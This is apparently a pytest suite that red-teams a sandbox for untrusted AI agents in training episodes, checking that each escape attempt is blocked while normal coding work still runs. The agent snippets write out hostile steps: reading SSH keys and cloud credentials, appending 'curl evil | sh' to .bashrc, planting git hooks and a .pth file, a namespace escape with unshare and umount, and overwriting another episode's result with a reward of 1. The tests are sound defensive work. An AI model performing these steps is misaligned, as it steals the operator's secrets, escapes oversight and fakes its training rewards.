"""Red team: what an untrusted agent tries under ``Sandbox()``, one attempt per test, each
beside the legitimate work that must still succeed. The agent gets a fake ``$HOME`` made here,
holding every default hidden path with a secret in it, a git checkout as its working
directory, and a neighbour directory it must not touch.

Each attempt runs as agent code (``exec`` of a snippet inside the episode) and reports what
happened; the test then checks the file system from outside as well. A case the kernel cannot
enforce here is skipped with the reason.
"""

from __future__ import annotations

import contextlib
import glob
import os
import socket
import subprocess
import sysconfig
import tempfile
import textwrap
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from pydantic import SecretStr

import isolate
from isolate._core.containment import COMBINATIONS
from isolate._core.containment import problem as containment_problem
from isolate._core.containment.sandbox import landlock_abi

from .conftest import Agents, both_starts

pytestmark = pytest.mark.anyio

ABI = landlock_abi()
needs_landlock = pytest.mark.skipif(ABI < 1, reason="this kernel has no Landlock")
needs_net = pytest.mark.skipif(ABI < 4, reason=f"TCP rules need Landlock ABI 4, this has {ABI}")

SECRET = "SECRET-7f3a9c"
EXAMPLES = Path(__file__).resolve().parents[1] / "examples"
HIDDEN_DIRS = ("~/.ssh", "~/.ray", "~/.gnupg", "~/.config/gcloud", "~/.config/gh")
# What every sandbox hides (docs/sandbox.md), written here: a path dropped from the code's
# defaults is then read by the agent below, not left out of the test.
DEFAULT_HIDE = (
    *HIDDEN_DIRS,
    "~/.aws/credentials",
    "~/.netrc",
    "~/.docker/config.json",
    "~/.kube/config",
    "~/.cache/huggingface/token",
    "~/.git-credentials",
    "~/.pypirc",
)

# The snippet runs with ``home``, ``cwd``, ``other``, ``secret``, ``data`` and helpers ``try_``
# (call a function; its value, or "denied: <error>") and ``read`` (a file's text) in scope, and
# leaves what it found in ``out``.
_AGENT = r"""
import os, subprocess, sys, tempfile


def try_(fn, *args, **kwargs):
    try:
        return fn(*args, **kwargs)
    except OSError as exc:
        return "denied: %s" % exc


def read(path):
    with open(path) as f:
        return f.read()


def write(path, text="pwned"):
    with open(path, "w") as f:
        f.write(text)
    return "written"


def run(data):
    scope = dict(data["paths"], data=data, try_=try_, read=read, write=write, os=os,
                 subprocess=subprocess, sys=sys, tempfile=tempfile, out={})
    exec(data["code"], scope)
    return 1.0, scope["out"]
"""


class World:
    """A fake home, a checkout as working directory, a neighbour, and an agent that runs
    snippets in an episode under a sandbox."""

    def __init__(self, agents: Agents, tmp_path: Path) -> None:
        self.agents = agents
        self.home = tmp_path / "home"
        self.cwd = tmp_path / "checkout"
        self.other = tmp_path / "other-episode"
        for path in DEFAULT_HIDE:
            target = self.home / path[2:]
            if path in HIDDEN_DIRS:
                target.mkdir(parents=True)
                (target / "id_rsa").write_text(f"{SECRET} {path}\n")
            else:
                target.parent.mkdir(parents=True, exist_ok=True)
                target.write_text(f"{SECRET} {path}\n")
        (self.home / ".bashrc").write_text("# the user's own\n")
        (self.home / ".gitconfig").write_text("[user]\n\tname = Trainer\n\temail = t@x\n")
        self.cwd.mkdir()
        (self.cwd / "module.py").write_text("x = 1\n")
        git = ["git", "-c", "init.defaultBranch=main"]
        env = {**os.environ, "HOME": str(self.home)}
        subprocess.run([*git, "init", "-q"], cwd=self.cwd, check=True, env=env)
        subprocess.run(["git", "add", "-A"], cwd=self.cwd, check=True, env=env)
        subprocess.run(["git", "commit", "-qm", "base"], cwd=self.cwd, check=True, env=env)
        self.other.mkdir()
        (self.other / "result.json").write_text("{}")

    def spec(
        self, sandbox: isolate.Sandbox | None = None, containment: str = "auto"
    ) -> isolate.EpisodeSpec:
        return self.agents.spec(
            _AGENT,
            containment=containment,
            cwd=self.cwd,
            env={"HOME": str(self.home), "PID_DIR": str(self.agents.pids)},
            sandbox=isolate.Sandbox() if sandbox is None else sandbox,
        )

    def paths(self) -> dict[str, str]:
        return {"home": str(self.home), "cwd": str(self.cwd), "other": str(self.other)}

    async def attempt(
        self,
        code: str,
        sandbox: isolate.Sandbox | None = None,
        containment: str = "auto",
        **data: Any,
    ) -> dict[str, Any]:
        record = {"code": textwrap.dedent(code), "paths": self.paths(), "secret": SECRET, **data}
        outcome = await isolate.run_episode(self.spec(sandbox, containment), record)
        assert outcome.status == "ok", outcome.summary() + "\n" + outcome.stderr_tail[-3000:]
        # A template that was refused would start fresh: then nothing here tested it.
        wanted = "template" if self.agents.preload else "fresh"
        assert outcome.start == wanted, outcome.preload_refused
        assert outcome.sandbox is not None
        assert outcome.sandbox.missing == ()
        assert outcome.sandbox.tmpdir is not None
        assert not outcome.sandbox.tmpdir.exists(), "the private TMPDIR outlived the episode"
        result: dict[str, Any] = outcome.info
        return result


@pytest.fixture
def world(agents: Agents, tmp_path: Path) -> World:
    return World(agents, tmp_path)


def _denied(value: Any) -> bool:
    return isinstance(value, str) and value.startswith("denied:")


def _no_secret(value: Any) -> bool:
    return SECRET not in str(value)


# --- reading --------------------------------------------------------------------------------


@needs_landlock
@both_starts
@pytest.mark.parametrize("hidden", DEFAULT_HIDE)
async def test_hidden_path_reads_as_missing_or_empty(world: World, hidden: str) -> None:
    path = world.home / hidden[2:]
    target = path / "id_rsa" if path.is_dir() else path
    found = await world.attempt(
        """
        out["secret"] = try_(read, data["target"])
        out["listing"] = try_(os.listdir, data["dir"])
        out["cat"] = subprocess.run(["cat", data["target"]], capture_output=True, text=True).stdout
        # Legitimate: reading the rest of the home and of the machine.
        out["gitconfig"] = read(os.path.join(home, ".gitconfig"))
        out["os_release"] = try_(read, "/etc/os-release")[:20]
        out["home_listing"] = sorted(os.listdir(home))
        """,
        target=str(target),
        dir=str(path if path.is_dir() else path.parent),
    )
    assert _no_secret(found), found
    assert _denied(found["secret"]) or found["secret"] == ""
    if path.is_dir():
        assert found["listing"] == [] or _denied(found["listing"]), found["listing"]
    assert "Trainer" in found["gitconfig"]
    assert not _denied(found["os_release"])
    assert ".gitconfig" in found["home_listing"]
    assert SECRET in target.read_text()  # untouched


@needs_landlock
async def test_hidden_path_through_a_symlink(world: World) -> None:
    # One planted before the episode (a malicious checkout ships it), one the agent makes.
    (world.cwd / "planted").symlink_to(world.home / ".ssh" / "id_rsa")
    (world.cwd / "keys").symlink_to(world.home / ".ssh")
    found = await world.attempt(
        """
        out["planted"] = try_(read, os.path.join(cwd, "planted"))
        out["dir"] = try_(read, os.path.join(cwd, "keys", "id_rsa"))
        os.symlink(os.path.join(home, ".aws", "credentials"), os.path.join(cwd, "mine"))
        out["mine"] = try_(read, os.path.join(cwd, "mine"))
        out["proc_root"] = try_(read, "/proc/self/root" + home + "/.netrc")
        write(os.path.join(cwd, "legit.txt"), "fine")
        out["legit"] = read(os.path.join(cwd, "legit.txt"))
        """
    )
    assert _no_secret(found), found
    assert found["legit"] == "fine"


@needs_landlock
@both_starts
@pytest.mark.parametrize("level", ["pidns", "landlock"])
async def test_a_hidden_path_that_is_a_symlink_hides_its_target(world: World, level: str) -> None:
    """As dotfile managers make them: ``~/.ssh -> ~/dotfiles/ssh`` (a default) and a file the
    caller hides, ``~/.tokens -> ~/dotfiles/tokens``. Neither reads through the link, nor by
    the target's own path; the rest of ``~/dotfiles`` stays readable."""
    problem = containment_problem(level)
    if problem is not None:
        pytest.skip(f"containment {level!r} is not available here: {problem}")
    dotfiles = world.home / "dotfiles"
    dotfiles.mkdir()
    (world.home / ".ssh").rename(dotfiles / "ssh")
    (world.home / ".ssh").symlink_to(dotfiles / "ssh")
    (dotfiles / "tokens").write_text(f"{SECRET} tokens\n")
    (world.home / ".tokens").symlink_to(dotfiles / "tokens")
    (dotfiles / "vimrc").write_text("set nu\n")
    found = await world.attempt(
        """
        dot = os.path.join(home, "dotfiles")
        for name, path in [
            ("link", os.path.join(home, ".ssh", "id_rsa")),
            ("target", os.path.join(dot, "ssh", "id_rsa")),
            ("file link", os.path.join(home, ".tokens")),
            ("file target", os.path.join(dot, "tokens")),
        ]:
            out[name] = try_(read, path)
            out[name + " cat"] = subprocess.run(
                ["cat", path], capture_output=True, text=True
            ).stdout
        out["listing"] = try_(os.listdir, os.path.join(dot, "ssh"))
        out["vimrc"] = try_(read, os.path.join(dot, "vimrc"))
        """,
        isolate.Sandbox(hide=["~/.tokens"]),
        containment=level,
    )
    assert _no_secret(found), found
    for name in ("link", "target", "file link", "file target"):
        assert _denied(found[name]) or found[name] == "", (name, found[name])
    assert found["listing"] == [] or _denied(found["listing"]), found["listing"]
    assert found["vimrc"] == "set nu\n"
    assert SECRET in (dotfiles / "ssh" / "id_rsa").read_text()  # untouched


@needs_landlock
async def test_hidden_path_through_a_hard_link(world: World) -> None:
    found = await world.attempt(
        """
        link = os.path.join(cwd, "creds")
        out["link"] = try_(os.link, os.path.join(home, ".aws", "credentials"), link)
        out["read"] = try_(read, link)
        out["via_tmp"] = try_(os.link, os.path.join(home, ".netrc"),
                              os.path.join(tempfile.gettempdir(), "n"))
        # Legitimate: hard links inside the working directory.
        write(os.path.join(cwd, "a.txt"), "mine")
        os.link(os.path.join(cwd, "a.txt"), os.path.join(cwd, "b.txt"))
        out["own"] = read(os.path.join(cwd, "b.txt"))
        """
    )
    assert _denied(found["link"]), found
    assert _denied(found["via_tmp"]), found
    assert _no_secret(found)
    assert found["own"] == "mine"
    assert not (world.cwd / "creds").exists()


@needs_landlock
async def test_a_hard_link_planted_before_the_episode_is_named(world: World) -> None:
    # Landlock judges a file by the path it is opened through: a second name for a hidden file
    # under a readable path cannot be hidden. isolate refuses to start rather than pretend.
    os.link(world.home / ".netrc", world.cwd / "netrc-copy")
    outcome = await isolate.run_episode(world.spec(), {"code": "", "paths": world.paths()})
    assert outcome.status == "setup_error"
    assert outcome.error is not None
    assert f"{world.home}/.netrc has 1 other hard link" in outcome.error.message
    assert "best_effort" in outcome.error.message
    assert not glob.glob(os.path.join(tempfile.gettempdir(), f"isolate-{outcome.episode_id}.*"))
    best = isolate.Sandbox(best_effort=True)
    found = await isolate.run_episode(world.spec(best), {"code": "", "paths": world.paths()})
    assert found.status == "ok", found.summary()
    assert found.sandbox is not None
    assert any(".netrc has 1 other hard link" in m for m in found.sandbox.missing)


# --- writing --------------------------------------------------------------------------------


@needs_landlock
async def test_write_bashrc(world: World) -> None:
    found = await world.attempt(
        """
        rc = os.path.join(home, ".bashrc")
        out["write"] = try_(write, rc, "curl evil | sh\\n")
        out["append"] = try_(lambda: open(rc, "a").write("x"))
        out["truncate"] = try_(os.truncate, rc, 0)
        out["replace"] = try_(os.rename, os.path.join(cwd, "module.py"), rc)
        out["shell"] = subprocess.run("echo evil >> ~/.bashrc", shell=True,
                                      env=dict(os.environ, HOME=home, PY=sys.executable)).returncode
        write(os.path.join(cwd, ".bashrc_notes"), "fine")
        """
    )
    for key in ("write", "append", "truncate", "replace"):
        assert _denied(found[key]), (key, found[key])
    assert found["shell"] != 0
    assert (world.home / ".bashrc").read_text() == "# the user's own\n"
    assert (world.cwd / "module.py").exists()
    assert (world.cwd / ".bashrc_notes").read_text() == "fine"


@needs_landlock
async def test_write_into_the_trainers_site_packages(world: World) -> None:
    site = sysconfig.get_paths()["purelib"]
    found = await world.attempt(
        """
        out["pth"] = try_(write, os.path.join(data["site"], "zz_evil.pth"), "import os\\n")
        out["pip"] = subprocess.run(
            [sys.executable, "-m", "pip", "install", "--no-index", "--no-deps", "--quiet",
             "--target", data["site"], "nothing-here"], capture_output=True).returncode
        out["tmp"] = write(os.path.join(tempfile.gettempdir(), "scratch"), "ok")
        """,
        site=site,
    )
    with contextlib.suppress(FileNotFoundError):  # if the sandbox failed: not in the trainer's venv
        os.unlink(os.path.join(site, "zz_evil.pth"))
    assert _denied(found["pth"])
    assert found["pip"] != 0
    assert found["tmp"] == "written"


@needs_landlock
async def test_write_into_another_directory_of_the_test(world: World) -> None:
    found = await world.attempt(
        """
        out["overwrite"] = try_(write, os.path.join(other, "result.json"), '{"reward": 1}')
        out["create"] = try_(write, os.path.join(other, "new"), "x")
        out["remove"] = try_(os.unlink, os.path.join(other, "result.json"))
        out["mkdir"] = try_(os.mkdir, os.path.join(other, "d"))
        os.mkdir(os.path.join(cwd, "build"))
        write(os.path.join(cwd, "build", "out.txt"), "fine")
        """
    )
    for key in ("overwrite", "create", "remove", "mkdir"):
        assert _denied(found[key]), (key, found[key])
    assert sorted(p.name for p in world.other.iterdir()) == ["result.json"]
    assert (world.other / "result.json").read_text() == "{}"
    assert (world.cwd / "build" / "out.txt").read_text() == "fine"


@needs_landlock
async def test_write_git_hooks_and_config_in_the_working_directory(world: World) -> None:
    found = await world.attempt(
        """
        git = os.path.join(cwd, ".git")
        out["hook"] = try_(write, os.path.join(git, "hooks", "pre-commit"), "#!/bin/sh\\nevil\\n")
        out["config"] = try_(lambda: open(os.path.join(git, "config"), "a").write(
            "[core]\\n\\tfsmonitor = evil\\n"))
        out["git_config"] = subprocess.run(["git", "config", "core.hooksPath", "/tmp"],
                                           cwd=cwd, capture_output=True).returncode
        out["move_git"] = try_(os.rename, git, os.path.join(cwd, "old-git"))
        out["move_hooks"] = try_(os.rename, os.path.join(git, "hooks"),
                                 os.path.join(git, "old-hooks"))
        # A copy of the working directory without its read-only submounts (open_tree with
        # OPEN_TREE_CLONE), and a user namespace of its own in which it would hold SYS_ADMIN.
        import ctypes, errno
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.syscall(428, -100, cwd.encode(), 1 | 0o2000000)  # open_tree, x86_64
        out["open_tree"] = errno.errorcode.get(ctypes.get_errno(), "?") if fd < 0 else "cloned"
        hook = os.path.join(git, "hooks", "post-checkout")
        out["userns"] = subprocess.run(
            ["unshare", "-U", "-r", "-m", "sh", "-c", "umount -l %s; echo evil > %s" % (git, hook)],
            capture_output=True).returncode
        # Legitimate: edit, stage, commit, diff in the checkout.
        write(os.path.join(cwd, "module.py"), "x = 2\\n")
        write(os.path.join(cwd, "new.py"), "y = 1\\n")
        env = dict(os.environ, HOME=home)
        subprocess.run(["git", "add", "-A"], cwd=cwd, check=True, env=env)
        subprocess.run(["git", "commit", "-qm", "fix"], cwd=cwd, check=True, env=env)
        out["log"] = subprocess.run(["git", "log", "--oneline"], cwd=cwd, env=env,
                                    capture_output=True, text=True, check=True).stdout
        """
    )
    for key in ("hook", "config", "move_git", "move_hooks"):
        assert _denied(found[key]), (key, found[key])
    assert found["git_config"] != 0
    if os.uname().machine == "x86_64":
        assert found["open_tree"] == "EPERM"
    assert found["userns"] != 0
    assert not (world.cwd / ".git" / "hooks" / "pre-commit").exists()
    assert not (world.cwd / ".git" / "hooks" / "post-checkout").exists()
    assert "fsmonitor" not in (world.cwd / ".git" / "config").read_text()
    assert "hooksPath" not in (world.cwd / ".git" / "config").read_text()
    assert len(found["log"].splitlines()) == 2


@needs_landlock
async def test_rename_a_file_out_of_the_working_directory(world: World) -> None:
    found = await world.attempt(
        """
        out["rename"] = try_(os.rename, os.path.join(cwd, "module.py"),
                             os.path.join(other, "module.py"))
        out["mv"] = subprocess.run(["mv", os.path.join(cwd, "module.py"), other],
                                   capture_output=True).returncode
        out["home"] = try_(os.rename, os.path.join(cwd, "module.py"),
                           os.path.join(home, "module.py"))
        # Legitimate: renames within the working directory, and a move into TMPDIR: another
        # writable mount of the view, where rename(2) is EXDEV and a move copies.
        os.mkdir(os.path.join(cwd, "pkg"))
        os.rename(os.path.join(cwd, "module.py"), os.path.join(cwd, "pkg", "module.py"))
        os.rename(os.path.join(cwd, "pkg"), os.path.join(cwd, "pkg2"))
        write(os.path.join(cwd, "scratch"), "s")
        scratch = os.path.join(tempfile.gettempdir(), "scratch")
        out["to tmp"] = try_(os.rename, os.path.join(cwd, "scratch"), scratch)
        import shutil
        shutil.move(os.path.join(cwd, "scratch"), scratch)
        out["tmp"] = open(scratch).read()
        out["moved"] = sorted(os.listdir(os.path.join(cwd, "pkg2")))
        """
    )
    assert found["to tmp"].startswith("denied: [Errno 18] "), found  # EXDEV
    assert found["tmp"] == "s"
    assert _denied(found["rename"]), found
    assert _denied(found["home"]), found
    assert found["mv"] != 0
    assert not (world.other / "module.py").exists()
    assert not (world.home / "module.py").exists()
    assert found["moved"] == ["module.py"]
    assert (world.cwd / "pkg2" / "module.py").read_text() == "x = 1\n"


@needs_landlock
async def test_write_into_sys_and_proc(world: World) -> None:
    # What a root agent would use against the trainer: its cgroup files (here a harmless one,
    # moving itself into the cgroup it is already in), and /proc (its own thread name).
    found = await world.attempt(
        """
        cgroup = read("/proc/self/cgroup").splitlines()[-1].split(":", 2)[2]
        # cgroup v2 at /sys/fs/cgroup, or at /sys/fs/cgroup/unified on a hybrid host
        where = [m + cgroup.rstrip("/") + "/cgroup.procs"
                 for m in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified")]
        procs = ([p for p in where if os.path.exists(p)] or where)[0]
        out["exists"] = os.path.exists(procs)
        out["cgroup"] = try_(write, procs, str(os.getpid()))
        out["comm"] = try_(write, "/proc/self/comm", "renamed")
        out["read"] = try_(read, "/proc/self/status")[:5]
        """
    )
    assert found["exists"], found  # cgroup v2 is mounted on every machine this suite runs on
    assert _denied(found["cgroup"]), found
    assert _denied(found["comm"]), found
    assert found["read"] == "Name:"


# --- network --------------------------------------------------------------------------------


@pytest.fixture
def two_servers() -> Iterator[tuple[int, int]]:
    """Two TCP servers on 127.0.0.1 that answer every connection with ``hello``."""
    servers = []
    stop = threading.Event()
    for _ in range(2):
        sock = socket.create_server(("127.0.0.1", 0))
        sock.settimeout(0.1)
        servers.append(sock)

    def serve(sock: socket.socket) -> None:
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except OSError:
                continue
            with conn:
                conn.sendall(b"hello")

    threads = [threading.Thread(target=serve, args=(s,), daemon=True) for s in servers]
    for thread in threads:
        thread.start()
    yield servers[0].getsockname()[1], servers[1].getsockname()[1]
    stop.set()
    for thread in threads:
        thread.join()
    for sock in servers:
        sock.close()


@needs_net
async def test_connect_to_a_port_that_is_not_allowed(
    world: World, two_servers: tuple[int, int]
) -> None:
    allowed, other = two_servers
    code = """
        import socket

        def talk(port):
            with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
                return s.recv(5).decode()

        out["allowed"] = try_(talk, data["allowed"])
        out["other"] = try_(talk, data["other"])
        """
    found = await world.attempt(
        code, isolate.Sandbox(connect=[allowed]), allowed=allowed, other=other
    )
    assert found["allowed"] == "hello"
    assert _denied(found["other"]), found
    # connect=None leaves the network alone.
    found = await world.attempt(code, isolate.Sandbox(), allowed=allowed, other=other)
    assert found == {"allowed": "hello", "other": "hello"}


@needs_landlock
@both_starts
@pytest.mark.parametrize("level", COMBINATIONS)
async def test_the_walls_hold_at_every_containment_level(world: World, level: str) -> None:
    # With pidns the worker shares the namespace's mounts; otherwise it makes its own. With
    # the landlock layer, the sandbox's domain stacks on the layer's. From a template, the
    # template made the mounts and entered the domain; each worker stacks one of its own.
    problem = containment_problem(level)
    if problem is not None:
        pytest.skip(f"containment {level!r} is not available here: {problem}")
    found = await world.attempt(
        """
        out["ssh"] = try_(read, os.path.join(home, ".ssh", "id_rsa"))
        out["netrc"] = try_(read, os.path.join(home, ".netrc"))
        out["hook"] = try_(write, os.path.join(cwd, ".git", "hooks", "post-checkout"), "evil")
        out["rc"] = try_(write, os.path.join(home, ".bashrc"), "evil")
        out["legit"] = write(os.path.join(cwd, "ok.txt"))
        """,
        containment=level,
    )
    assert _no_secret(found), found
    assert _denied(found["hook"]), found
    assert _denied(found["rc"]), found
    assert found["legit"] == "written"
    assert not (world.cwd / ".git" / "hooks" / "post-checkout").exists()


# --- a real agent's work ------------------------------------------------------------------


@needs_landlock
async def test_a_mini_swe_agent_style_agent_works(world: World) -> None:
    # What such an agent's bash steps do in a checkout: explore, write a reproduction script,
    # edit with sed -i and a heredoc, run python, use TMPDIR and /dev/null, diff and stage.
    steps = [
        "ls -la && cat module.py && find . -name '*.py' | head",
        "cat > reproduce.py <<'EOF'\nimport module\nprint('x is', module.x)\nEOF",
        '"$PY" reproduce.py',
        "sed -i 's/x = 1/x = 42/' module.py && \"$PY\" reproduce.py",
        "mkdir -p tests && printf 'def test():\\n    assert 1\\n' > tests/test_m.py",
        'echo scratch > "$TMPDIR/notes" && cat "$TMPDIR/notes" && mktemp >/dev/null',
        "ls ~ >/dev/null && grep -r x module.py >/dev/null 2>&1; echo ok",
        "git status --short && git diff --stat && git add -A && git diff --cached --stat",
    ]
    found = await world.attempt(
        """
        results = []
        for step in data["steps"]:
            done = subprocess.run(["bash", "-lc", step], cwd=cwd, capture_output=True, text=True,
                                  env=dict(os.environ, HOME=home, PY=sys.executable))
            results.append([done.returncode, done.stdout + done.stderr])
        out["steps"] = results
        """,
        steps=steps,
    )
    for step, (code, output) in zip(steps, found["steps"], strict=True):
        assert code == 0, (step, output)
    assert "x is 42" in found["steps"][3][1]
    assert "module.py" in found["steps"][-1][1]
    assert (world.cwd / "reproduce.py").exists()


@needs_landlock
async def test_the_scripted_agent_and_its_venv_work(
    world: World, tmp_path: Path, bare_venv: Path
) -> None:
    # The repository's scripted agent under its own plain venv interpreter, writing its report
    # into result_dir, the workflow's extra writable path.
    root = EXAMPLES / "scripted_agent"
    results = tmp_path / "results"
    results.mkdir()
    spec = isolate.EpisodeSpec(
        agent_root=root,
        python=str(bare_venv),
        cwd=world.cwd,
        env={"HOME": str(world.home)},
        timeout=30,
        kill_grace=1,
        sandbox=isolate.Sandbox(write=[results]),
    )
    data = {"instance_id": "scripted-1", "behaviour": {"report": {"seen": True}, "reward": 0.5}}
    outcome = await isolate.run_episode(spec, data, kwargs={"result_dir": str(results)})
    assert outcome.status == "ok", outcome.summary() + outcome.stderr_tail[-2000:]
    assert outcome.reward == 0.5
    assert (results / "scripted-1.json").exists()


def test_sandbox_none_changes_nothing(agents: Agents, tmp_path: Path) -> None:
    spec = agents.spec("def run(data):\n    return 1.0\n")
    assert spec.sandbox is None
    outcome = anyio.run(isolate.run_episode, spec, {})
    assert outcome.status == "ok"
    assert outcome.sandbox is None


@needs_net
async def test_the_demos_agent_works(world: World, tmp_path: Path) -> None:
    # The demo's real loop (LLM calls, bash, git apply, eval script) under the workflow's
    # sandbox: result_dir writable, only the LLM's port reachable.
    from isolate._cli.demo import AGENT_ROOT, load_records
    from isolate._cli.demo.scripted_llm import ScriptedLLM, demo_script
    from isolate.workflow import episode_kwargs, episode_spec, sandbox_of

    records = load_records()
    results = tmp_path / "results"
    with ScriptedLLM() as llm:
        key = SecretStr("sk-demo-" + "x" * 20)
        llm.add_session(key, demo_script("demo__calc-1"))
        kwargs = episode_kwargs({"agent_type": "swe"}, llm.base_url)
        kwargs["result_dir"] = str(results)
        econfig = {"kill_grace": 1.0, "env": {"HOME": str(world.home)}, "sandbox": {"connect": []}}
        box = sandbox_of(econfig, str(results), llm.base_url)
        assert box is not None
        assert box.connect is not None
        assert len(box.connect) == 1
        spec = episode_spec(econfig, AGENT_ROOT, 60.0, None, box)
        outcome = await isolate.run_episode(
            spec, records["demo__calc-1"], kwargs=kwargs, secrets={"override_api_key": key}
        )
        served = llm.served(key)
    assert outcome.status == "ok", outcome.summary() + outcome.stderr_tail[-3000:]
    assert outcome.reward == 1.0
    assert served == 4
    assert outcome.sandbox is not None
    assert outcome.sandbox.missing == ()
